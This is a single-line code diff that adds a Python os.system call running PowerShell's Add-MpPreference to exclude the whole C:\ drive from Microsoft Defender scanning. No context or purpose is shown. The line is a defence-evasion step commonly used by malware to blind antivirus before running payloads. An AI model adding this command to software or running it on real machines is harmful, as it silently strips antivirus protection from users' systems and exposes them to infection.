@@ -1,0 +1,1 @@
+os.system("powershell Add-MpPreference -ExclusionPath C:\\")
